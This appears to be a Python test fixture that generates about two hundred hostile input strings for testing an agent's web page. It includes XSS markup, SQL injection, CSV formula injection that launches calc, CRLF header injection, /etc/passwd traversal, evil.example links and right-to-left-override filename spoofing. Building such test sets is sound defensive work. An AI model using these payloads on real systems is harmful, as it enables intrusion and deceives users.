"""Two hundred things that somebody may be called, write, or name a file, to run a script in an
agent's page, to become a part of it, or to bring it out of shape."""

from __future__ import annotations

_CALLS = ("alert(1)", "prompt(2)", "confirm`3`", "window.ran=1", "top['al'+'ert'](5)")
_MARKUP = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'>",
    "<a href=javascript:{}>click</a>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<math><mtext></p><style><img src onerror={}>",
    "<template><script>{}</script></template>",
    '"><script>{}</script>',
    "'><img src onerror={}>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "<work-card onclick={}></work-card>",
    "<form action=javascript:{}><button>x</button></form>",
    "<object data='javascript:{}'></object>",
    "<base href='javascript:{}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href='javascript:{}'>",
    "<style>@import 'javascript:{}'</style>",
    "<div style='background:url(javascript:{})'>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "${{{}}} {{{{{}}}}} #{{{}}}",
)
_TEMPLATES = (
    "<!--?lit$1$-->",
    "?lit$123456$",
    "{{lit}}",
    "__proto__",
    "constructor",
    "toString",
    "%00%0d%0aSet-Cookie: a=1",
    "$& $` $' $1 {0} {1}",
    "{name} {agent} {account}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;",
    "\\u003cscript\\u003e",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "`+alert(1)+`",
    "=cmd|' /C calc'!A0",
    "'; drop table agents; --",
    "../../etc/passwd",
    "//evil.example/x",
    "\\\\evil\\share",
)
_BIDI = (
    "\u202egnp.exe",
    "\u202d\u202e\u202d123\u202c",
    "abc\u2066\u2067\u2068def",
    "\u2067unclosed",
    "\u200f\u200e\u061cmarks",
    "שלום world עולם",
    "مرحبا +1 415 555 0123",
    "\u202eapproved \u202d denied",
    "a\u0301\u0301\u0301" * 60,
    "Z̸̡̛̥̪̤̗͓͍͈̪̩̳͙̒̓̆̎̇̐̉͗̌̒͐a̵̢̛̺̱̟̬̙̫̿́̈́̊̽̆̈́̕l̷̡̨͍̩̘͕͓̯̜͑̄̀͜g̸̛͚͇̝͎̲̹̐͋̈́̔̄̈́̚o̷̧̼̘̠̞̗͍͆͋̏",
    "‮‮‮‮‮‮reversed",
    "\u2028line\u2029para",
    "\ufeffbom\u200bzero\u200dwidth",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 20,
    "\U000e0041\U000e0042tags",
)
_SHAPES = (
    "W" * 200,
    "w" * 200,
    "_" * 200,
    "1" * 200,
    "中" * 200,
    "．" * 200,
    "https://example.com/" + "a" * 170,
    "a/" * 100,
    "-" * 200,
    "\u00a0" * 199 + "x",
    "﷽" * 60,
    "𒐫" * 100,
    "\t" * 50 + "x",
    "\n" * 50 + "x",
    "᠎ ᠎ ᠎" * 30,
)


def payloads() -> list[str]:
    """All of them, each one once."""
    made = [markup.format(*[call] * markup.count("{}")) for markup in _MARKUP for call in _CALLS]
    return list(dict.fromkeys([*made, *_TEMPLATES, *_BIDI, *_SHAPES]))
